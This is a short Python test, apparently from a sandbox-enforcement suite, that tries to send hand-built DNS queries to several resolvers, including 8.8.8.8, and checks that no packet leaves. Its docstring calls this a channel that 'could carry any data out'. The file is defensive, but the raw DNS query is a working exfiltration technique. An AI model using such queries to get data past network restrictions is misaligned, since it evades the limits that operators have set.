"""Asks name servers itself, which could carry any data out.

Must: no packet leaves
Grants: network
"""

import socket

from attempt import attempt


def ask(server):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as made:
        made.settimeout(0.5)
        made.sendto(b"\x12\x34\x01\0\0\x01\0\0\0\0\0\0\x04data\x07example\x03com\0\0\x01\0\x01", (server, 53))
        made.recv(512)


for server in ("127.0.0.53", "127.0.0.1", "8.8.8.8", "10.0.0.2"):
    attempt(server, lambda server=server: ask(server))
attempt("the library", lambda: socket.getaddrinfo("data.example.com", 443))
